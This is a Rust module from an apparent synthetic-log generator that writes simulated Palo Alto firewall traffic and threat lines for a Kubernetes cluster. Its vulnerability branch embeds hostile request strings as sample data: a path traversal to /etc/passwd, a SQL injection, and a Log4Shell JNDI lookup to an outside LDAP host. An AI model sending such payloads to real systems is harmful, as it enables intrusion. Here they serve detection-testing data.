//! What happens on each line: who talks to whom, and what the firewall saw
//! and did about it. The choices are made here; `lines` writes them down.

use std::fmt::Write as _;
use std::net::Ipv4Addr;

use super::catalog::{self as cat, App, Signature};
use super::lines::{self, Session};
use super::rand_ext::{below, between, chance, one, one_str, pick};
use super::world::Outside;
use super::{Generator, LineKind, ThreatSubtype, TrafficSubtype};

/// What the caller learns about the line just written.
#[derive(Debug, Clone, Copy)]
pub(crate) struct Meta {
    pub kind: LineKind,
    pub c2: bool,
    pub pod: Option<usize>,
}

/// One side of a session.
#[derive(Debug, Clone, Copy)]
struct End {
    ip: Ipv4Addr,
    port: u16,
    zone: &'static str,
    iface: &'static str,
    loc: &'static str,
    pod: Option<usize>,
}

/// The session of a line, before the firewall's counters and clock apply.
#[derive(Debug)]
struct Plan {
    src: End,
    dst: End,
    /// Source NAT: the egress address and port.
    nat: Option<(Ipv4Addr, u16)>,
    rule: usize,
    app: &'static App,
    proto: &'static str,
    repeat: u32,
    flags: &'static str,
    action: &'static str,
    /// Zone-protection and policy drops carry session id 0 and no egress
    /// interface.
    sessionless: bool,
}

/// The THREAT columns that are not the session's. URL/Filename and the
/// threat name are in `Generator::misc` and `Generator::name`.
#[derive(Debug)]
struct ThreatPlan {
    subtype: ThreatSubtype,
    id: u64,
    category: &'static str,
    severity: &'static str,
    direction: &'static str,
    content_type: &'static str,
    /// Index into `World::file_hashes`.
    digest: Option<usize>,
    cloud: &'static str,
    url_index: u32,
    user_agent: &'static str,
    file_type: &'static str,
    referer: &'static str,
    email: Option<&'static (&'static str, &'static str, &'static str)>,
    report_id: u64,
    http_method: &'static str,
    threat_category: &'static str,
    url_categories: &'static str,
}

impl ThreatPlan {
    fn new(subtype: ThreatSubtype, sig: &Signature, direction: &'static str) -> ThreatPlan {
        ThreatPlan {
            subtype,
            id: sig.id,
            category: "any",
            severity: sig.severity,
            direction,
            content_type: "",
            digest: None,
            cloud: "",
            url_index: 0,
            user_agent: "",
            file_type: "",
            referer: "",
            email: None,
            report_id: 0,
            http_method: "",
            threat_category: sig.category,
            url_categories: "",
        }
    }
}

#[derive(Debug)]
enum Detail {
    Traffic(lines::Traffic),
    Threat(ThreatPlan),
}

const C2S: &str = "client-to-server";
const S2C: &str = "server-to-client";
const WILDFIRE_CLOUD: &str = "wildfire.paloaltonetworks.com";

/// Weights of the non-URL, non-C2 threat subtypes. None is rarer than 4 %
/// so that 10,000 default lines contain every subtype.
const THREAT_MIX: [(ThreatSubtype, u32); 10] = [
    (ThreatSubtype::Virus, 12),
    (ThreatSubtype::Spyware, 14),
    (ThreatSubtype::Vulnerability, 22),
    (ThreatSubtype::File, 14),
    (ThreatSubtype::Scan, 8),
    (ThreatSubtype::Flood, 5),
    (ThreatSubtype::Packet, 5),
    (ThreatSubtype::Data, 6),
    (ThreatSubtype::Wildfire, 9),
    (ThreatSubtype::WildfireVirus, 5),
];

/// Writes the next line into `g.buf` and says what it is.
pub(crate) fn next(g: &mut Generator) -> Meta {
    g.misc.clear();
    g.name.clear();
    let r = ((g.rng_u64() >> 11) as f64) * (1.0 / (1u64 << 53) as f64);
    let (plan, detail, c2) = if r < g.mix.c2 {
        let (p, d) = c2(g);
        (p, d, true)
    } else if r < g.mix.threat {
        let weights = THREAT_MIX.map(|(_, w)| w);
        let total = weights.iter().sum();
        let (p, d) = match THREAT_MIX[pick(&mut g.rng, &weights, total)].0 {
            ThreatSubtype::Virus => virus(g, ThreatSubtype::Virus, cat::VIRUS_SIGS),
            ThreatSubtype::WildfireVirus => {
                virus(g, ThreatSubtype::WildfireVirus, cat::WILDFIRE_VIRUS_SIGS)
            }
            ThreatSubtype::Spyware => spyware(g),
            ThreatSubtype::Vulnerability => vulnerability(g),
            ThreatSubtype::File => file(g),
            ThreatSubtype::Scan => zone_protection(g, ThreatSubtype::Scan, cat::SCAN_SIGS),
            ThreatSubtype::Flood => zone_protection(g, ThreatSubtype::Flood, cat::FLOOD_SIGS),
            ThreatSubtype::Packet => zone_protection(g, ThreatSubtype::Packet, cat::PACKET_SIGS),
            ThreatSubtype::Data => data(g),
            ThreatSubtype::Wildfire | ThreatSubtype::Url => wildfire(g),
        };
        (p, d, false)
    } else if r < g.mix.url {
        let (p, d) = url(g);
        (p, d, false)
    } else {
        let (p, d) = traffic(g);
        (p, d, false)
    };
    emit(g, plan, detail, c2)
}

impl Generator {
    #[inline]
    fn rng_u64(&mut self) -> u64 {
        rand::RngCore::next_u64(&mut self.rng)
    }
}

fn ephemeral(g: &mut Generator) -> u16 {
    between(&mut g.rng, 32768, 60999) as u16
}

fn pod_end(g: &Generator, i: usize, port: u16) -> End {
    let ip = g.pods.get(i).map_or(Ipv4Addr::UNSPECIFIED, |p| p.ip);
    End {
        ip,
        port,
        zone: cat::ZONE_PODS,
        iface: cat::IF_PODS,
        loc: cat::PRIVATE_10,
        pod: Some(i),
    }
}

fn outside_end(o: Outside, port: u16) -> End {
    End {
        ip: o.ip,
        port,
        zone: cat::ZONE_INTERNET,
        iface: cat::IF_INTERNET,
        loc: o.country,
        pod: None,
    }
}

fn any_pod(g: &mut Generator) -> usize {
    below(&mut g.rng, g.pods.len() as u64) as usize
}

fn server(g: &mut Generator) -> Outside {
    *one(&mut g.rng, &g.world.servers)
}

fn client(g: &mut Generator) -> Outside {
    *one(&mut g.rng, &g.world.clients)
}

/// Egress is source-NATed to a public address half of the time (the rest
/// leaves through the nodes' own NAT, behind the firewall).
fn egress_nat(g: &mut Generator) -> Option<(Ipv4Addr, u16)> {
    if chance(&mut g.rng, 0.5) {
        let ip = *one(&mut g.rng, &g.world.egress_nat);
        Some((ip, between(&mut g.rng, 1024, 65000) as u16))
    } else {
        None
    }
}

fn plan(
    src: End,
    dst: End,
    rule: usize,
    app: &'static App,
    action: &'static str,
    flags: &'static str,
) -> Plan {
    Plan {
        src,
        dst,
        nat: None,
        rule,
        app,
        proto: app.proto,
        repeat: 1,
        flags,
        action,
        sessionless: false,
    }
}

fn weighted<T: Copy>(g: &mut Generator, items: &[(T, u32)]) -> T {
    let total: u32 = items.iter().map(|(_, w)| w).sum();
    let mut r = below(&mut g.rng, u64::from(total)) as u32;
    for &(v, w) in items {
        if r < w {
            return v;
        }
        r -= w;
    }
    items[items.len() - 1].0
}

/// Swaps the two ends: PAN-OS logs server-to-client threats with the
/// server (the attacker) as the source. The NAT columns then stay empty,
/// as in real lines of that kind.
fn swap(p: &mut Plan) {
    std::mem::swap(&mut p.src, &mut p.dst);
    p.nat = None;
}

// --- TRAFFIC ---------------------------------------------------------------

fn traffic(g: &mut Generator) -> (Plan, Detail) {
    let subtype = weighted(
        g,
        &[
            (TrafficSubtype::End, 80),
            (TrafficSubtype::Start, 8),
            (TrafficSubtype::Drop, 9),
            (TrafficSubtype::Deny, 3),
        ],
    );
    let mut p = match subtype {
        TrafficSubtype::Drop => dropped(g),
        TrafficSubtype::Deny => denied(g),
        TrafficSubtype::Start | TrafficSubtype::End => match below(&mut g.rng, 100) {
            0..=44 => egress(g),
            45..=84 => east_west(g),
            _ => inbound(g),
        },
    };
    let udp = p.proto != "tcp";
    let (bytes_sent, bytes_received, packets_sent, packets_received, elapsed, end_reason) =
        match subtype {
            TrafficSubtype::Start => {
                if chance(&mut g.rng, 0.2) {
                    p.app = if chance(&mut g.rng, 0.5) {
                        &cat::INCOMPLETE
                    } else {
                        &cat::INSUFFICIENT
                    };
                }
                let sent = between(&mut g.rng, 66, 600);
                (
                    sent,
                    between(&mut g.rng, 0, 600),
                    1 + below(&mut g.rng, 2),
                    below(&mut g.rng, 2),
                    0,
                    "n/a",
                )
            }
            TrafficSubtype::End => {
                let sent = between(&mut g.rng, 200, 4_000) * between(&mut g.rng, 1, 8);
                let scale = between(&mut g.rng, 10, 21);
                let received = between(&mut g.rng, 100, 1 << scale);
                let reason = if udp {
                    one(&mut g.rng, cat::END_REASONS_UDP)
                } else {
                    one(&mut g.rng, cat::END_REASONS_TCP)
                };
                (
                    sent,
                    received,
                    sent / 700 + 1,
                    received / 1200 + 1,
                    below(&mut g.rng, 120),
                    *reason,
                )
            }
            TrafficSubtype::Drop => (between(&mut g.rng, 54, 78), 0, 1, 0, 0, "policy-deny"),
            TrafficSubtype::Deny => {
                let sent = between(&mut g.rng, 300, 2_000);
                (
                    sent,
                    between(&mut g.rng, 60, 800),
                    3 + below(&mut g.rng, 4),
                    2 + below(&mut g.rng, 3),
                    below(&mut g.rng, 3),
                    "policy-deny",
                )
            }
        };
    let category = if p.app.name == "ssl" || p.app.name == "web-browsing" {
        if p.dst.pod.is_none() && p.dst.zone == cat::ZONE_INTERNET {
            weighted_url_category(g).name
        } else {
            "private-ip-addresses"
        }
    } else {
        "any"
    };
    let start_back = i64::try_from(elapsed).unwrap_or(0) * 1000 + below(&mut g.rng, 1000) as i64;
    let detail = lines::Traffic {
        subtype,
        bytes_sent,
        bytes_received,
        packets_sent,
        packets_received,
        start: g.now - start_back,
        elapsed,
        category,
        end_reason,
        action_source: if subtype == TrafficSubtype::Deny {
            "from-application"
        } else {
            "from-policy"
        },
    };
    (p, Detail::Traffic(detail))
}

/// A pod reaching the internet.
fn egress(g: &mut Generator) -> Plan {
    let i = any_pod(g);
    let sport = ephemeral(g);
    let src = pod_end(g, i, sport);
    let srv = server(g);
    if g.pods[i].workload == super::pods::COREDNS {
        // CoreDNS forwards to the upstream resolvers.
        let upstream = if chance(&mut g.rng, 0.5) {
            Ipv4Addr::new(8, 8, 8, 8)
        } else {
            Ipv4Addr::new(1, 1, 1, 1)
        };
        let dst = outside_end(
            Outside {
                ip: upstream,
                country: "United States",
            },
            53,
        );
        return plan(src, dst, cat::RULE_DNS, &cat::DNS, "allow", "0x400019");
    }
    let (app, port, rule): (&'static App, u16, usize) = weighted(
        g,
        &[
            ((&cat::SSL, 443, cat::RULE_EGRESS_WEB), 50),
            ((&cat::WEB_BROWSING, 80, cat::RULE_EGRESS_WEB), 15),
            ((&cat::GITHUB, 443, cat::RULE_EGRESS_SAAS), 8),
            ((&cat::GOOGLE, 443, cat::RULE_EGRESS_SAAS), 8),
            ((&cat::SLACK, 443, cat::RULE_EGRESS_SAAS), 4),
            ((&cat::NTP, 123, cat::RULE_EGRESS_SAAS), 5),
            ((&cat::PING, 0, cat::RULE_EGRESS_WEB), 3),
        ],
    );
    let mut src = src;
    if app.proto == "icmp" {
        src.port = 0;
    }
    let mut p = plan(
        src,
        outside_end(srv, port),
        rule,
        app,
        "allow",
        one_str(&mut g.rng, &["0x400019", "0x400053", "0x1b", "0x19"]),
    );
    p.nat = egress_nat(g);
    p
}

/// A pod calling a service inside the cluster.
fn east_west(g: &mut Generator) -> Plan {
    let client_pod = any_pod(g);
    let use_dns = g.servers.is_empty() || chance(&mut g.rng, 0.25);
    let target = if use_dns && !g.coredns.is_empty() {
        *one(&mut g.rng, &g.coredns)
    } else if !g.servers.is_empty() {
        *one(&mut g.rng, &g.servers)
    } else {
        return egress(g);
    };
    if target == client_pod {
        return egress(g);
    }
    let wl = g.pods[target].workload();
    let app = wl.app.unwrap_or(&cat::UNKNOWN_TCP);
    let rule = match wl.tier() {
        "data" => cat::RULE_DATA,
        "system" => cat::RULE_DNS,
        _ => cat::RULE_EAST_WEST,
    };
    let sport = ephemeral(g);
    let src = pod_end(g, client_pod, sport);
    let dst = pod_end(g, target, wl.port);
    plan(
        src,
        dst,
        rule,
        app,
        "allow",
        one_str(&mut g.rng, &["0x19", "0x1b", "0x400019"]),
    )
}

/// An internet client reaching an exposed service.
fn inbound(g: &mut Generator) -> Plan {
    if g.exposed.is_empty() {
        return egress(g);
    }
    let target = *one(&mut g.rng, &g.exposed);
    let wl = g.pods[target].workload();
    let c = client(g);
    let sport = ephemeral(g);
    let mut dst = pod_end(g, target, wl.port);
    dst.zone = cat::ZONE_DMZ;
    dst.iface = cat::IF_DMZ;
    let app = wl.app.unwrap_or(&cat::SSL);
    plan(
        outside_end(c, sport),
        dst,
        cat::RULE_INBOUND,
        app,
        "allow",
        "0x400053",
    )
}

/// A session the policy dropped before any application was seen: mostly
/// internet scanners knocking on pod ports, sometimes pods trying odd
/// ports outbound.
fn dropped(g: &mut Generator) -> Plan {
    const PORTS: &[u16] = &[
        22, 23, 445, 3389, 2375, 6379, 10250, 5900, 8080, 9200, 27017,
    ];
    let port = *one(&mut g.rng, PORTS);
    let action = *one(&mut g.rng, &["deny", "deny", "drop", "reset-both"]);
    let mut p = if chance(&mut g.rng, 0.7) {
        let c = client(g);
        let sport = ephemeral(g);
        let target = any_pod(g);
        let dst = pod_end(g, target, port);
        plan(
            outside_end(c, sport),
            dst,
            cat::RULE_INTERZONE,
            &cat::NOT_APPLICABLE,
            action,
            "0x0",
        )
    } else {
        let i = any_pod(g);
        let sport = ephemeral(g);
        let src = pod_end(g, i, sport);
        let dst = outside_end(server(g), *one(&mut g.rng, &[25, 6667, 4444, 1337, 31337]));
        plan(
            src,
            dst,
            cat::RULE_DENY_EGRESS,
            &cat::NOT_APPLICABLE,
            action,
            "0x100000",
        )
    };
    p.proto = "tcp";
    p.sessionless = true;
    p
}

/// An application the egress policy denies once App-ID has seen it.
fn denied(g: &mut Generator) -> Plan {
    let i = any_pod(g);
    let sport = ephemeral(g);
    let src = pod_end(g, i, sport);
    let (app, port): (&'static App, u16) = *one(
        &mut g.rng,
        &[
            (&cat::BITTORRENT, 6881),
            (&cat::SSH, 22),
            (&cat::FTP, 21),
            (&cat::UNKNOWN_TCP, 4444),
            (&cat::SMTP, 25),
        ],
    );
    let action = *one(&mut g.rng, &["deny", "reset-both"]);
    plan(
        src,
        outside_end(server(g), port),
        cat::RULE_DENY_EGRESS,
        app,
        action,
        "0x400019",
    )
}

// --- THREAT ----------------------------------------------------------------

fn weighted_url_category(g: &mut Generator) -> &'static cat::UrlCategory {
    let total: u32 = cat::URL_CATEGORIES.iter().map(|c| c.weight).sum();
    let mut r = below(&mut g.rng, u64::from(total)) as u32;
    for c in cat::URL_CATEGORIES {
        if r < c.weight {
            return c;
        }
        r -= c.weight;
    }
    &cat::URL_CATEGORIES[0]
}

/// URL filtering: a pod fetching something; informational, mostly alert.
fn url(g: &mut Generator) -> (Plan, Detail) {
    let mut p = egress_web(g);
    let category = weighted_url_category(g);
    let awkward = !category.blocked && chance(&mut g.rng, 0.03);
    let u = if awkward {
        one(&mut g.rng, cat::AWKWARD_URLS)
    } else {
        one(&mut g.rng, category.urls)
    };
    g.misc.push_str(u);
    p.action = if category.blocked {
        "block-url"
    } else if chance(&mut g.rng, 0.05) {
        "allow"
    } else {
        "alert"
    };
    p.flags = *one(
        &mut g.rng,
        &["0x403000", "0x408000", "0x40b000", "0x400000"],
    );
    let t = ThreatPlan {
        category: category.name,
        content_type: one_str(
            &mut g.rng,
            &[
                "text/html",
                "application/json",
                "application/octet-stream",
                "",
            ],
        ),
        url_index: below(&mut g.rng, 4) as u32,
        user_agent: one_str(&mut g.rng, cat::USER_AGENTS),
        referer: if chance(&mut g.rng, 0.1) {
            "https://www.shop.example/checkout?step=2,3"
        } else {
            ""
        },
        http_method: if chance(&mut g.rng, 0.8) {
            "get"
        } else {
            "post"
        },
        url_categories: category.list,
        ..ThreatPlan::new(
            ThreatSubtype::Url,
            &cat::Signature {
                name: "",
                id: 9999,
                category: "unknown",
                severity: "informational",
            },
            C2S,
        )
    };
    (p, Detail::Threat(t))
}

/// A pod's web session to an internet server (url, file, data, downloads).
fn egress_web(g: &mut Generator) -> Plan {
    let i = any_pod(g);
    let sport = ephemeral(g);
    let src = pod_end(g, i, sport);
    let (app, port): (&'static App, u16) = if chance(&mut g.rng, 0.7) {
        (&cat::SSL, 443)
    } else {
        (&cat::WEB_BROWSING, 80)
    };
    let srv = server(g);
    let mut p = plan(
        src,
        outside_end(srv, port),
        cat::RULE_EGRESS_WEB,
        app,
        "alert",
        "0x402000",
    );
    p.nat = egress_nat(g);
    p
}

/// The C2 share: a compromised pod and one of the C2 servers.
fn c2(g: &mut Generator) -> (Plan, Detail) {
    let pod = *one(&mut g.rng, &g.compromised);
    let server = one(&mut g.rng, &g.world.c2).clone();
    let sport = ephemeral(g);
    let src = pod_end(g, pod, sport);
    let dst = outside_end(
        Outside {
            ip: server.ip,
            country: server.country,
        },
        server.port,
    );
    let action = weighted(
        g,
        &[
            ("reset-both", 65),
            ("drop", 15),
            ("alert", 12),
            ("reset-client", 4),
            ("reset-server", 4),
        ],
    );
    let mut p = plan(
        src,
        dst,
        cat::RULE_EGRESS_WEB,
        server.app,
        action,
        "0x402000",
    );
    p.nat = egress_nat(g);
    let inbound = chance(&mut g.rng, 0.25);
    if inbound {
        swap(&mut p);
    }
    if chance(&mut g.rng, 0.4) {
        g.misc.push_str(&server.domain);
        g.misc.push_str(one_str(
            &mut g.rng,
            &[
                "/jquery-3.3.1.min.js",
                "/submit.php",
                "/api/v1/beacon",
                "/pixel.gif",
                "/",
            ],
        ));
    }
    g.name.push_str(server.threat_name);
    let sig = Signature {
        name: server.threat_name,
        id: server.threat_id,
        category: "command-and-control",
        severity: "critical",
    };
    let t = ThreatPlan::new(
        ThreatSubtype::Spyware,
        &sig,
        if inbound { S2C } else { C2S },
    );
    (p, Detail::Threat(t))
}

fn spyware(g: &mut Generator) -> (Plan, Detail) {
    if chance(&mut g.rng, 0.45) {
        // A pod resolving a known-bad domain; DNS security sinkholes it.
        let (domain, id) = *one(&mut g.rng, cat::DNS_SUSPICIOUS);
        let i = any_pod(g);
        let sport = ephemeral(g);
        let src = pod_end(g, i, sport);
        let dst = match g.coredns.first() {
            Some(_) => {
                let d = *one(&mut g.rng, &g.coredns);
                pod_end(g, d, 53)
            }
            None => outside_end(
                Outside {
                    ip: Ipv4Addr::new(8, 8, 8, 8),
                    country: "United States",
                },
                53,
            ),
        };
        let action = weighted(g, &[("sinkhole", 60), ("alert", 25), ("drop", 15)]);
        let p = plan(src, dst, cat::RULE_DNS, &cat::DNS, action, "0x80402000");
        g.name.push_str("Suspicious DNS Query (generic:");
        g.name.push_str(domain);
        g.name.push(')');
        let sig = Signature {
            name: "",
            id,
            category: "dns",
            severity: "medium",
        };
        return (
            p,
            Detail::Threat(ThreatPlan::new(ThreatSubtype::Spyware, &sig, C2S)),
        );
    }
    let sig = one(&mut g.rng, cat::SPYWARE_SIGS);
    let mut p = egress_web(g);
    p.action = weighted(
        g,
        &[
            ("reset-both", 40),
            ("alert", 30),
            ("drop", 20),
            ("reset-server", 10),
        ],
    );
    let dir = if chance(&mut g.rng, 0.8) { C2S } else { S2C };
    if dir == S2C {
        swap(&mut p);
    }
    g.name.push_str(sig.name);
    (
        p,
        Detail::Threat(ThreatPlan::new(ThreatSubtype::Spyware, sig, dir)),
    )
}

fn vulnerability(g: &mut Generator) -> (Plan, Detail) {
    let sig = one(&mut g.rng, cat::VULN_SIGS);
    g.name.push_str(sig.name);
    let action = weighted(
        g,
        &[
            ("reset-both", 40),
            ("reset-client", 15),
            ("reset-server", 15),
            ("alert", 20),
            ("drop", 10),
        ],
    );
    let mut dir = C2S;
    let mut p = match sig.category {
        "brute-force" if sig.name.starts_with("SSH") => {
            // Someone guessing passwords on a pod's SSH port.
            let target = any_pod(g);
            let c = client(g);
            let sport = ephemeral(g);
            let dst = pod_end(g, target, 22);
            let mut p = plan(
                outside_end(c, sport),
                dst,
                cat::RULE_INBOUND,
                &cat::SSH,
                action,
                "0x402400",
            );
            p.repeat = between(&mut g.rng, 2, 40) as u32;
            p
        }
        _ if sig.name.starts_with("Redis") || sig.name.starts_with("Microsoft RPC") => {
            // Lateral movement from one pod to another.
            let from = any_pod(g);
            let to = if g.servers.is_empty() {
                any_pod(g)
            } else {
                *one(&mut g.rng, &g.servers)
            };
            let sport = ephemeral(g);
            let src = pod_end(g, from, sport);
            let (app, port) = if sig.name.starts_with("Redis") {
                (&cat::REDIS, 6379)
            } else {
                (&cat::MSRPC, 135)
            };
            let dst = pod_end(g, to, port);
            plan(src, dst, cat::RULE_EAST_WEST, app, action, "0x2000")
        }
        _ if sig.name.contains("Heartbleed") && chance(&mut g.rng, 0.5) => {
            // A malicious server attacking a pod's TLS client.
            dir = S2C;
            let mut p = egress_web(g);
            p.app = &cat::SSL;
            p.dst.port = 443;
            p.action = action;
            swap(&mut p);
            p
        }
        _ => {
            let target = if g.exposed.is_empty() {
                any_pod(g)
            } else {
                *one(&mut g.rng, &g.exposed)
            };
            let wl = g.pods[target].workload();
            let c = client(g);
            let sport = ephemeral(g);
            let mut dst = pod_end(g, target, wl.port);
            dst.zone = cat::ZONE_DMZ;
            dst.iface = cat::IF_DMZ;
            let app = wl.app.unwrap_or(&cat::WEB_BROWSING);
            if chance(&mut g.rng, 0.6) {
                // Rare path: a formatted write into the reused buffer is fine.
                let _ = write!(g.misc, "{}", dst.ip);
                g.misc.push_str(one_str(
                    &mut g.rng,
                    &[
                        "/cgi-bin/../../../../etc/passwd",
                        "/api/login",
                        "/?id=1' OR '1'='1",
                        "/${jndi:ldap://45.137.21.9:1389/a}",
                        "/actuator/env",
                    ],
                ));
            }
            plan(
                outside_end(c, sport),
                dst,
                cat::RULE_INBOUND,
                app,
                action,
                "0x402000",
            )
        }
    };
    if sig.severity == "informational" {
        p.action = "alert";
    }
    let mut t = ThreatPlan::new(ThreatSubtype::Vulnerability, sig, dir);
    if p.app.name == "web-browsing" || p.app.name == "ssl" {
        t.http_method = if chance(&mut g.rng, 0.7) {
            "get"
        } else {
            "post"
        };
    }
    (p, Detail::Threat(t))
}

/// Antivirus and WildFire-signature hits: a pod downloading malware.
fn virus(g: &mut Generator, subtype: ThreatSubtype, sigs: &'static [Signature]) -> (Plan, Detail) {
    let sig = one(&mut g.rng, sigs);
    g.name.push_str(sig.name);
    push_file_name(g);
    let mut p = egress_web(g);
    p.action = weighted(
        g,
        &[
            ("reset-both", 50),
            ("drop", 15),
            ("alert", 25),
            ("deny", 10),
        ],
    );
    swap(&mut p);
    let mut t = ThreatPlan::new(subtype, sig, S2C);
    t.digest = Some(below(&mut g.rng, g.world.file_hashes.len() as u64) as usize);
    (p, Detail::Threat(t))
}

fn push_file_name(g: &mut Generator) {
    if chance(&mut g.rng, 0.05) {
        g.misc
            .push_str(one_str(&mut g.rng, cat::AWKWARD_FILE_NAMES));
    } else {
        g.misc.push_str(one_str(&mut g.rng, cat::FILE_NAMES));
    }
}

/// Mail from a pod (a batch job sending reports), with its attachment.
fn smtp(g: &mut Generator, action: &'static str) -> Plan {
    let i = any_pod(g);
    let sport = ephemeral(g);
    let src = pod_end(g, i, sport);
    let mut p = plan(
        src,
        outside_end(server(g), 25),
        cat::RULE_EGRESS_SAAS,
        &cat::SMTP,
        action,
        "0x406000",
    );
    p.nat = egress_nat(g);
    p
}

/// File blocking: file types crossing the firewall.
fn file(g: &mut Generator) -> (Plan, Detail) {
    let sig = one(&mut g.rng, cat::FILE_SIGS);
    g.name.push_str(sig.name);
    let action = if chance(&mut g.rng, 0.8) {
        "alert"
    } else {
        "deny"
    };
    if sig.name == "Email Link" || chance(&mut g.rng, 0.15) {
        let p = smtp(g, action);
        push_file_name(g);
        let mut t = ThreatPlan::new(ThreatSubtype::File, sig, C2S);
        t.email = Some(one(&mut g.rng, cat::EMAILS));
        return (p, Detail::Threat(t));
    }
    push_file_name(g);
    let mut p = egress_web(g);
    p.action = action;
    p.flags = "0x406000";
    let dir = if chance(&mut g.rng, 0.8) { S2C } else { C2S };
    let mut t = ThreatPlan::new(ThreatSubtype::File, sig, dir);
    t.category = weighted_url_category(g).name;
    (p, Detail::Threat(t))
}

/// Data filtering: sensitive content leaving a pod.
fn data(g: &mut Generator) -> (Plan, Detail) {
    let sig = one(&mut g.rng, cat::DATA_SIGS);
    g.name.push_str(sig.name);
    let action = weighted(g, &[("alert", 50), ("reset-both", 30), ("deny", 20)]);
    push_file_name(g);
    let mut t = ThreatPlan::new(ThreatSubtype::Data, sig, C2S);
    let p = if chance(&mut g.rng, 0.2) {
        t.email = Some(one(&mut g.rng, cat::EMAILS));
        smtp(g, action)
    } else {
        let mut p = egress_web(g);
        p.action = action;
        if chance(&mut g.rng, 0.2) {
            p.app = &cat::FTP;
            p.dst.port = 21;
        }
        p
    };
    (p, Detail::Threat(t))
}

/// WildFire verdicts on files pods download.
fn wildfire(g: &mut Generator) -> (Plan, Detail) {
    let (file, file_type, type_name, type_id) = *one(&mut g.rng, cat::WILDFIRE_FILES);
    let (verdict, severity) = *one(&mut g.rng, cat::WILDFIRE_VERDICTS);
    g.misc.push_str(file);
    g.name.push_str(type_name);
    let mut p = egress_web(g);
    p.action = if chance(&mut g.rng, 0.7) {
        "alert"
    } else {
        "allow"
    };
    let dir = if chance(&mut g.rng, 0.85) { S2C } else { C2S };
    let sig = Signature {
        name: type_name,
        id: type_id,
        category: "unknown",
        severity,
    };
    let mut t = ThreatPlan::new(ThreatSubtype::Wildfire, &sig, dir);
    t.category = verdict;
    t.digest = Some(below(&mut g.rng, g.world.file_hashes.len() as u64) as usize);
    t.cloud = WILDFIRE_CLOUD;
    t.file_type = file_type;
    t.report_id = between(&mut g.rng, 40_000_000_000, 49_999_999_999);
    (p, Detail::Threat(t))
}

/// Zone protection: scans, floods and malformed packets from the internet.
fn zone_protection(
    g: &mut Generator,
    subtype: ThreatSubtype,
    sigs: &'static [Signature],
) -> (Plan, Detail) {
    let sig = one(&mut g.rng, sigs);
    g.name.push_str(sig.name);
    let c = client(g);
    let target = if g.exposed.is_empty() {
        any_pod(g)
    } else {
        *one(&mut g.rng, &g.exposed)
    };
    let mut dst = pod_end(g, target, 0);
    dst.zone = cat::ZONE_DMZ;
    dst.iface = cat::IF_DMZ;
    let proto = if sig.name.starts_with("UDP") {
        "udp"
    } else if sig.name.starts_with("ICMP")
        || sig.name.starts_with("Ping")
        || sig.name == "Host Sweep"
    {
        "icmp"
    } else {
        "tcp"
    };
    let action = if chance(&mut g.rng, 0.75) {
        "drop"
    } else {
        "alert"
    };
    let mut p = plan(
        outside_end(c, 0),
        dst,
        cat::RULE_INTERZONE,
        &cat::NOT_APPLICABLE,
        action,
        "0x0",
    );
    p.proto = proto;
    p.sessionless = true;
    p.repeat = match subtype {
        ThreatSubtype::Flood => between(&mut g.rng, 100, 5_000),
        ThreatSubtype::Scan => between(&mut g.rng, 10, 2_000),
        _ => between(&mut g.rng, 1, 50),
    } as u32;
    (p, Detail::Threat(ThreatPlan::new(subtype, sig, C2S)))
}

// --- writing -----------------------------------------------------------------

/// Syslog PRI for facility `user`: the line's severity, or info.
fn priority(severity: &str) -> u8 {
    8 + match severity {
        "critical" => 2,
        "high" => 3,
        "medium" => 4,
        "low" => 5,
        _ => 6,
    }
}

fn emit(g: &mut Generator, p: Plan, detail: Detail, c2: bool) -> Meta {
    // Exponential-ish gaps: uniform over twice the mean.
    let span = (g.mean_step_ms * 2.0).max(0.0) as u64;
    g.now += below(&mut g.rng, span + 1) as i64;
    let fw_index = below(&mut g.rng, g.world.firewalls.len() as u64) as usize;
    let step_session = between(&mut g.rng, 1, 3);
    let step_seq = between(&mut g.rng, 1, 4);
    let delay = below(&mut g.rng, 1500) as i64;
    let Some(fw) = g.world.firewalls.get_mut(fw_index) else {
        return Meta {
            kind: LineKind::Traffic(TrafficSubtype::End),
            c2,
            pod: None,
        };
    };
    fw.next_session += step_session;
    fw.next_seqno += step_seq;
    let session_id = if p.sessionless { 0 } else { fw.next_session };
    let seqno = fw.next_seqno;
    let fw = &g.world.firewalls[fw_index];
    let pod = p.src.pod.or(p.dst.pod);
    let (nat_src, nat_sport) = p.nat.unwrap_or((Ipv4Addr::UNSPECIFIED, 0));
    let nat_dport = if p.nat.is_some() { p.dst.port } else { 0 };
    let nat_dst = if p.nat.is_some() {
        p.dst.ip
    } else {
        Ipv4Addr::UNSPECIFIED
    };
    let session = Session {
        fw,
        generated: g.now,
        received: g.now + delay,
        src: p.src.ip,
        dst: p.dst.ip,
        nat_src,
        nat_dst,
        sport: p.src.port,
        dport: p.dst.port,
        nat_sport,
        nat_dport,
        rule: cat::RULES[p.rule.min(cat::RULES.len() - 1)],
        rule_uuid: g.world.rule_uuids.get(p.rule).map_or("", String::as_str),
        app: p.app,
        proto: p.proto,
        from_zone: p.src.zone,
        to_zone: p.dst.zone,
        in_if: p.src.iface,
        out_if: if p.sessionless { "" } else { p.dst.iface },
        session_id,
        repeat: p.repeat,
        flags: p.flags,
        action: p.action,
        src_loc: p.src.loc,
        dst_loc: p.dst.loc,
        seqno,
        pod: pod.and_then(|i| g.pods.get(i)),
        cluster: &g.cluster,
    };
    let kind = match detail {
        Detail::Traffic(t) => {
            lines::push_header(
                &mut g.buf,
                &mut g.stamps,
                g.header,
                priority(""),
                session.received,
                &fw.name,
            );
            lines::traffic(&mut g.buf, &mut g.stamps, &session, &t);
            LineKind::Traffic(t.subtype)
        }
        Detail::Threat(t) => {
            lines::push_header(
                &mut g.buf,
                &mut g.stamps,
                g.header,
                priority(t.severity),
                session.received,
                &fw.name,
            );
            let threat = lines::Threat {
                subtype: t.subtype,
                misc: &g.misc,
                name: &g.name,
                id: t.id,
                category: t.category,
                severity: t.severity,
                direction: t.direction,
                content_type: t.content_type,
                file_digest: t
                    .digest
                    .and_then(|i| g.world.file_hashes.get(i))
                    .map_or("", String::as_str),
                cloud: t.cloud,
                url_index: t.url_index,
                user_agent: t.user_agent,
                file_type: t.file_type,
                referer: t.referer,
                email: t.email,
                report_id: t.report_id,
                http_method: t.http_method,
                threat_category: t.threat_category,
                url_categories: t.url_categories,
            };
            lines::threat(&mut g.buf, &mut g.stamps, &session, &threat);
            LineKind::Threat(t.subtype)
        }
    };
    Meta { kind, c2, pod }
}
